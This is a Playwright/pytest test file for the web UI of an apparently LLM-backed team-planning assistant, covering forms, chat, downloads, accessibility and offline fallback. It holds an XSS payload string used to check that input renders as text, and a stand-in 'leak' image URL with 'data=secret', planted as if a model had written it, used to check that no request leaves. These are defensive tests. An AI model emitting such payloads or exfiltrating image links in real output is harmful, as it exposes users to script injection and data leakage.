"""The web UI in a real headless Chromium (Debian's /usr/bin/chromium driven by Playwright).

Set UI_SCREENSHOTS=docs to refresh the README's screenshots; otherwise they go to a temp dir.
Without chromium these tests skip, unless CI is set (then they fail: CI must have a browser).
"""

from __future__ import annotations

import os
from pathlib import Path

import pytest
from docx import Document
from playwright.sync_api import expect

from assistant.planners import OfflinePlanner
from tests.helpers import dead_model_planner
from ui.app import running

pytestmark = [pytest.mark.browser, pytest.mark.filterwarnings("ignore::Warning:gradio.queueing")]

CHROMIUM = "/usr/bin/chromium"
ARGS = [
    "--no-sandbox",
    "--disable-dev-shm-usage",
    "--disable-gpu",
    "--disable-background-networking",
    "--disable-component-update",
    "--no-first-run",
]
INJECTION = "<img src=x onerror=alert(1)><script>alert(1)</script>"
TIMEOUT = 30_000
SHOWN = ".chart-layout:not([hidden])"  # the way a chart is drawn for its frame's width
BUSY = ".pending, .generating"  # gradio's marks of an event under way (a reply awaited, a reply being written)


@pytest.fixture(scope="module")
def browser():
    if not Path(CHROMIUM).exists():
        reason = f"{CHROMIUM} not found: install Debian's chromium (apt-get install chromium)"
        if os.environ.get("CI"):
            pytest.fail(reason)
        pytest.skip(reason)
    from playwright.sync_api import sync_playwright

    with sync_playwright() as playwright:
        chromium = playwright.chromium.launch(executable_path=CHROMIUM, args=ARGS)
        yield chromium
        chromium.close()


@pytest.fixture(scope="module")
def url():
    with running(OfflinePlanner()) as address:
        yield address


def open_page(browser, url, locale="en-GB"):
    """A fresh visitor's page (its own context: cookies, session, browser language)."""
    context = browser.new_context(viewport={"width": 1500, "height": 1000}, accept_downloads=True, locale=locale)
    page = context.new_page()
    page.set_default_timeout(TIMEOUT)
    page.dialogs = []
    page.on("dialog", lambda dialog: (page.dialogs.append(dialog.message), dialog.dismiss()))
    page.goto(url, wait_until="domcontentloaded")
    page.wait_for_selector("#chat-input textarea")
    page.wait_for_function(f"document.documentElement.dataset.said === '{locale[:2]}'")  # the page's words are said
    return page


@pytest.fixture
def page(browser, url):
    page = open_page(browser, url)
    yield page
    page.context.close()


@pytest.fixture
def shots(tmp_path) -> Path:
    folder = Path(os.environ.get("UI_SCREENSHOTS") or tmp_path)
    folder = folder if folder.is_absolute() else Path(__file__).resolve().parents[1] / folder
    folder.mkdir(parents=True, exist_ok=True)
    return folder


def fill_form(
    page,
    employees="300",
    industry="fashion retail",
    channels=("physical stores", "e-commerce"),
    challenge="Stores and e-commerce compete for the same customers.",
):
    page.click("#form-tab-button")
    page.fill("#employees textarea", employees)
    page.fill("#industry textarea", industry)
    for channel in channels:
        page.click("#channels input")
        page.keyboard.type(channel[:4])
        page.click(f"ul[role=listbox] li:has-text('{channel}')")
    page.fill("#challenge textarea", challenge)
    page.click("#plan-button")
    wait_for_diagrams(page)
    wait_for_downloads(page)


def wait_for_diagrams(page):
    """Both charts drawn and fitted to their frames."""
    page.wait_for_selector(f"#org-frame[data-zoom] {SHOWN} svg rect")
    page.wait_for_selector(f"#gantt-frame[data-zoom] {SHOWN} svg rect")


def wait_for_downloads(page):
    """The plan's files offered: the download buttons enabled and faded in (half-faded text fails axe)."""
    page.wait_for_function("""[...document.querySelectorAll('[id^=download-]')].every(
        (button) => !button.disabled && getComputedStyle(button).opacity === '1')""")


def smallest_label_px(page, frame: str) -> float:
    """The smallest text of a chart as drawn on screen, in CSS pixels."""
    return page.evaluate(
        """(frame) => {
        const svg = document.querySelector(frame + ' .chart-layout:not([hidden]) svg');
        const scale = svg.getBoundingClientRect().width / svg.viewBox.baseVal.width;
        return Math.min(...[...svg.querySelectorAll('text')].map(t => parseFloat(t.getAttribute('font-size')) * scale));
    }""",
        frame,
    )


def settled(page) -> None:
    """Nothing on the page is still happening: no event of the app pending, every image loaded or failed
    (an `onerror` has run by then), no transition or finite animation running (a fading tab)."""
    expect(page.locator(BUSY)).to_have_count(0)
    page.wait_for_function("""[...document.images].every((image) => image.complete)
        && document.getAnimations().every((run) => run.playState !== 'running'
            || run.effect.getComputedTiming().iterations === Infinity)""")


def send(page, message: str) -> str:
    """Send a chat message and wait for the assistant's reply to finish; its text."""
    page.click("#chat-tab-button")
    before = page.locator("#chatbot .bot-row").count()
    page.fill("#chat-input textarea", message)
    page.press("#chat-input textarea", "Enter")
    page.wait_for_function(f"document.querySelectorAll('#chatbot .bot-row').length > {before}")
    expect(page.locator(f"#chatbot {BUSY}, #chat-input .stop-button")).to_have_count(0)  # the turn has ended
    return page.locator("#chatbot .bot-row").last.inner_text()


def test_form_gives_a_plan_with_org_chart_and_gantt(page, shots):
    fill_form(page)
    org = page.locator(f"#org-frame {SHOWN} svg")
    assert org.locator("rect").count() >= 6
    assert "Omnichannel Manager" in org.text_content()
    gantt = page.locator(f"#gantt-frame {SHOWN}")
    assert "W13" in gantt.text_content()
    assert page.locator("#org-chart details table tr").count() >= 6  # the chart's text alternative
    assert page.locator("#operating-models th.chosen .badge").count() == 1
    assert "Offline plan" in page.inner_text("#status")
    page.screenshot(path=str(shots / "ui-form.png"), full_page=True)


def test_chat_in_english_then_a_correction_changes_the_plan(page, shots):
    reply = send(page, "We're a fashion retailer with 300 employees, selling in stores and online.")
    assert "still need" in reply
    reply = send(page, "Our biggest problem: stores and e-commerce compete for the same customers.")
    assert "ready" in reply
    wait_for_diagrams(page)
    nodes = page.locator("#org-chart details tr").count()
    assert "300 employees" in page.inner_text("#profile-summary")
    reply = send(page, "we have 1,200 people, not 300")
    assert "Employees: 1,200\n\nWhat changed in the plan:" in reply and "Operating model" in reply
    page.wait_for_function("document.querySelector('#profile-summary').innerText.includes('1,200 employees')")
    page.wait_for_function(f"document.querySelectorAll('#org-chart details tr').length > {nodes}")  # a bigger team
    wait_for_diagrams(page)
    page.screenshot(path=str(shots / "ui-chat.png"), full_page=True)


def test_chat_in_polish_gives_a_polish_plan(page):
    send(
        page,
        "Jesteśmy siecią aptek, zatrudniamy 300 osób. Sprzedajemy w aptekach i w sklepie internetowym. "
        "Największy problem: każdy dział ma własne cele.",
    )
    wait_for_diagrams(page)
    assert "Plan offline" in page.inner_text("#status")
    assert "Pierwsze 90 dni" in page.inner_text("#gantt")
    reply = send(page, "mamy 1200 osób, nie 300")
    assert "Zatrudnienie: 1\u202f200\n\nCo zmieniło się w planie:" in reply and "Zespół łącznie" in reply


def test_docx_download_opens_with_python_docx(page, tmp_path):
    assert page.locator("#download-docx").is_disabled()  # no plan, no file: not clickable
    fill_form(page)
    with page.expect_download() as download:
        page.click("#download-docx")
    path = tmp_path / download.value.suggested_filename
    download.value.save_as(path)
    assert path.suffix == ".docx"
    doc = Document(path)
    assert "300 people · fashion retail · stores, online shop" in [p.text for p in doc.paragraphs]
    assert any(p.text.startswith("Omnichannel team plan") for p in doc.paragraphs)


def test_injection_in_the_challenge_renders_as_text(page):
    fill_form(page, challenge=f"{INJECTION} departments work in silos")
    summary = page.locator("#profile-summary")
    assert INJECTION in summary.inner_text()
    assert summary.locator("img, script").count() == 0
    reply = send(page, f"problem: {INJECTION} silos")
    assert "</script> silos" in reply  # the problem's words, tags and all, shown as typed
    assert page.locator("#chatbot img[src=x], #chatbot script, #profile-summary script").count() == 0
    assert page.evaluate("[...document.scripts].filter(s => s.textContent.includes('alert(1)')).length") == 0
    settled(page)
    assert page.dialogs == []


def test_scenarios_open_on_the_plan_on_screen_beside_a_variant(page, shots):
    fill_form(page, employees="1200", channels=("physical stores", "e-commerce", "marketplace"))
    chosen = page.locator("#operating-models th.chosen").first.text_content().split()[0].lower()
    page.click("#scenarios-tab-button")
    head = page.wait_for_selector("#scenario-table thead").inner_text()
    assert f"A: your plan · {chosen} · 1,200" in head and "B: variant · " in head and f"variant · {chosen}" not in head
    page.fill("#employees-b textarea", "5000")
    page.click("#compare-button")
    page.wait_for_function("document.querySelector('#scenario-table thead').innerText.includes('5,000')")
    assert page.locator("#scenario-table tr.changed").count() >= 2
    page.screenshot(path=str(shots / "ui-scenarios.png"), full_page=True)


LEAK = "http://198.51.100.7/leak.png?data=secret"  # TEST-NET-2: a host no test may reach


class ImageWritingPlanner(OfflinePlanner):
    """The offline planner, as if a model had written images and raw HTML into the plan."""

    def team_plan(self, profile):
        plan = super().team_plan(profile)
        hostile = f'![chart]({LEAK}) <img src="{LEAK}&raw=1"> [source]({LEAK}&link=1)'
        kpis = [plan.kpis[0].model_copy(update={"name": hostile}), *plan.kpis[1:]]
        return plan.model_copy(update={"summary": hostile, "kpis": kpis})


def test_no_request_leaves_for_a_url_a_model_wrote(browser):
    outside = []

    def only_this_machine(route):
        if route.request.url.startswith(("http://127.0.0.1", "ws://127.0.0.1", "data:", "blob:")):
            return route.continue_()
        outside.append(route.request.url)
        return route.abort()

    with running(ImageWritingPlanner()) as address:
        context = browser.new_context(viewport={"width": 1500, "height": 1000})
        context.route("**/*", only_this_machine)
        page = context.new_page()
        page.set_default_timeout(TIMEOUT)
        page.goto(address, wait_until="domcontentloaded")
        page.wait_for_selector("#chat-input textarea")
        reply = send(page, "Fashion retailer, 300 employees, stores and e-commerce; the problem: silos.")
        page.click("#text-tab-button")
        page.wait_for_selector("#plan-text :text('leak.png')")
        text = page.locator("#plan-text").inner_text()
        settled(page)
        images = page.evaluate("[...document.images].map(i => i.src)")
        context.close()
    assert outside == [], outside
    assert "![chart](" in reply and f"![chart]({LEAK})" in text and "<img src=" in text
    assert not [src for src in images if "198.51.100.7" in src]


BIG = ("physical stores", "e-commerce", "mobile app", "marketplace", "social media", "call centre", "B2B")


class FourteenRolePlanner(OfflinePlanner):
    """The offline planner, as if a model had staffed a big team: a head for each channel and a change
    lead beside the core team (the rules right-size a team; a model's roles are shown as it wrote them)."""

    def team_plan(self, profile):
        plan = super().team_plan(profile)
        core = [r for r in plan.roles if r.key != "channel_manager"][:6]  # six, seven heads and a lead: 14
        lead = core[0]
        heads = [
            lead.model_copy(
                update={"key": "channel_manager", "title": f"Head of {c.title()}", "reports_to": lead.title, "fte": 0.2}
            )
            for c in profile.channels
        ]
        change = lead.model_copy(update={"key": "change_lead", "title": "Change and Training Lead", "fte": 0.5})
        roles = [*core, *heads, change.model_copy(update={"reports_to": lead.title})]
        plan = plan.model_copy(update={"roles": roles})
        return plan.model_copy(update={"brief": self.brief_for(plan)})


@pytest.fixture(scope="module")
def big_team_url():
    with running(FourteenRolePlanner()) as address:
        yield address


@pytest.fixture
def big_team_page(browser, big_team_url):
    page = open_page(browser, big_team_url)
    yield page
    page.context.close()


@pytest.mark.parametrize(("width", "height", "name"), [(1440, 900, "ui-desktop.png"), (390, 844, "ui-phone.png")])
def test_a_fourteen_role_org_chart_reads_on_desktop_and_phone(big_team_page, shots, width, height, name):
    page = big_team_page
    page.set_viewport_size({"width": width, "height": height})
    fill_form(page, employees="5000", channels=BIG)
    assert page.locator("#org-chart details tr").count() == 15  # 14 roles and the header
    assert smallest_label_px(page, "#org-frame") >= 11
    assert smallest_label_px(page, "#gantt-frame") >= 11
    page.click("#org-frame [data-chart=in]")
    assert smallest_label_px(page, "#org-frame") > 12
    overflow = page.evaluate("document.documentElement.scrollWidth - document.documentElement.clientWidth")
    assert overflow <= 0  # wide charts and tables scroll inside their frames, not the page
    page.screenshot(path=str(shots / name), full_page=True)


AXE = Path(__file__).parent / ".axe" / "node_modules" / "axe-core" / "axe.min.js"  # `npm install` in .ci/run
AXE_RUN = """async () => (await axe.run(document, {resultTypes: ['violations']})).violations
    .filter(v => v.impact === 'serious' || v.impact === 'critical')
    .map(v => v.id + ': ' + v.nodes.map(n => n.target.join(' ')).join(', '))"""


def serious_violations(page) -> list[str]:
    """axe-core's serious and critical findings on the page as it is now."""
    if not AXE.exists():
        reason = f"{AXE} not found: npm install --prefix tests/.axe axe-core@4"
        if os.environ.get("CI"):
            pytest.fail(reason)
        pytest.skip(reason)
    if not page.evaluate("typeof axe !== 'undefined'"):
        page.add_script_tag(path=str(AXE))
    return page.evaluate(AXE_RUN)


def test_the_untouched_form_says_what_to_fill_in_without_raw_errors(page):
    page.click("#form-tab-button")
    assert page.input_value("#employees textarea") == ""
    assert page.get_attribute("#employees textarea", "placeholder") == "e.g. 300 or 1 000+"
    page.click("#plan-button")
    page.wait_for_selector("#form-message li")
    assert page.locator("#form-message li").all_inner_texts() == [
        "Please fill in “Employees”.",
        "Please fill in “Industry”.",
        "Choose at least one channel in “Channels”.",
        "Please fill in “Biggest collaboration challenge”.",
    ]
    settled(page)
    body = page.inner_text("body")
    for raw in ("less than minimum", "Field required", "String should", "Error"):
        assert raw not in body
    assert page.locator(".toast-body").count() == 0
    assert serious_violations(page) == []


def test_the_page_follows_the_visitors_language_and_the_switch(browser, url):
    page = open_page(browser, url, locale="pl-PL")
    try:
        assert page.evaluate("document.documentElement.lang") == "pl"
        assert page.inner_text("#form-tab-button") == "Formularz" and page.inner_text("#plan-tab-button") == "Plan"
        assert "zaplanuj swój zespół" in page.inner_text("#page-title")
        page.click("#form-tab-button")
        assert page.inner_text("#employees [data-testid=block-info]").strip() == "Liczba pracowników"
        assert page.is_checked("#language input[value=pl]")  # the plan's language follows the page
        page.click("#page-language label:has-text('English')")
        page.wait_for_function("document.documentElement.dataset.said === 'en'")
        assert page.evaluate("document.documentElement.lang") == "en"
        page.wait_for_function("document.querySelector('#form-tab-button').innerText === 'Form'")
        assert page.inner_text("#employees [data-testid=block-info]").strip() == "Employees"
        assert page.is_checked("#language input[value=en]")
    finally:
        page.context.close()


def test_keyboard_focus_is_visible_and_each_radio_group_is_one_tab_stop(page):
    page.click("#form-tab-button")
    page.focus("#industry textarea")
    outline = page.evaluate(
        "(() => { const s = getComputedStyle(document.activeElement); "
        "return [s.outlineStyle, parseFloat(s.outlineWidth)]; })()"
    )
    assert outline[0] != "none" and outline[1] >= 2
    page.focus("#kind input[value=team]")
    page.keyboard.press("Tab")
    assert page.evaluate("!document.querySelector('#kind').contains(document.activeElement)")
    page.keyboard.press("Shift+Tab")
    assert page.evaluate("document.activeElement.value") == "team"  # back into the group, on its chosen radio
    page.keyboard.press("ArrowRight")
    assert page.is_checked("#kind input[value=skills]")  # arrows move inside the group


def test_the_form_and_the_plan_view_pass_axe_core(page):
    fill_form(page)
    assert serious_violations(page) == []
    for tab in ("#risks-tab-button", "#skills-tab-button", "#scenarios-tab-button"):
        page.click(tab)
        expect(page.locator(tab)).to_have_attribute("aria-selected", "true")
        settled(page)
        assert serious_violations(page) == [], tab


def test_start_over_clears_the_plan_from_the_page(page):
    fill_form(page)
    reply = send(page, "start over")
    assert reply.startswith("Starting over.")
    page.wait_for_function("document.querySelector('#org-chart').innerText.includes('No plan yet')")
    assert page.locator("#gantt svg").count() == 0 and page.inner_text("#profile-summary").strip() == ""
    page.wait_for_selector("#download-pdf:disabled")  # nothing left to download


def test_the_skills_plan_has_its_own_tab(page):
    fill_form(page)
    send(page, "the skills plan for this team")
    page.click("#skills-tab-button")
    page.wait_for_function("document.querySelector('#skills-plan').innerText.includes('the skills in detail')")
    assert page.locator("#skills-plan table").count() >= 1


@pytest.fixture(scope="module")
def dead_model_url():
    """The page with an LLM planner whose server is gone."""
    with running(dead_model_planner(max_retries=3)) as address:
        yield address


def test_a_dead_model_server_still_gives_a_plan_with_one_plain_sentence(browser, dead_model_url, monkeypatch):
    import openai

    monkeypatch.setattr(openai._base_client, "INITIAL_RETRY_DELAY", 0.5)  # the client's own backoff: retries are seen
    page = open_page(browser, dead_model_url, locale="pl-PL")
    try:
        page.fill(
            "#chat-input textarea",
            "Jesteśmy siecią aptek, 300 osób, apteki i sklep internetowy. Problem: każdy dział ma własne cele.",
        )
        page.press("#chat-input textarea", "Enter")
        page.wait_for_function(
            "document.querySelector('#chatbot').innerText.includes('Ponawiam zapytanie do modelu (2/4)')"
        )
        shown = page.evaluate(
            "[...document.querySelectorAll('body *')].filter(e => e.offsetParent && "
            "/processing|\\d\\.\\d\\/\\d/.test(e.innerText || '')).length"
        )
        assert shown == 0  # Gradio's own "processing | 0.7/2.5s" is not shown
        page.wait_for_function("document.querySelector('#chatbot').innerText.includes('plan offline')")
        reply = page.locator("#chatbot .bot-row").last.inner_text()
        assert "Model AI jest teraz niedostępny, więc to plan offline" in reply and "OMNITEAM" not in reply
        wait_for_diagrams(page)
        status = page.inner_text("#status")
        assert "127.0.0.1" not in status  # the technical reason stays inside the closed details toggle
    finally:
        page.context.close()
